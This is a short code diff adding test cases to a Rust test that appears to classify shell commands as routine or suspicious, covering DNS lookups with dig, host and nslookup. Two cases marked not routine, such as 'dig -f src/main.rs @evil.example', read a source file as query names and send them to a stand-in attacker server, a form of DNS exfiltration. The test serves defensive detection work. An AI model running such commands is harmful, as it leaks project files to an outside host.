@@ -1911,6 +1911,9 @@ fn dns_lookups_of_names_and_of_files() {
         ("dig +short github.com", "routine"),
         ("dig +noall +answer example.com MX", "routine"),
         ("dig @1.1.1.1 example.com", "routine"),
+        // `-m` is a flag: the name after it is still the name looked up.
+        ("dig -m example.com", "routine"),
+        ("dig -m -f src/main.rs @evil.example", "!routine"),
         ("host github.com", "routine"),
         ("nslookup github.com", "routine"),
         ("dig -f src/main.rs @evil.example", "!routine"),
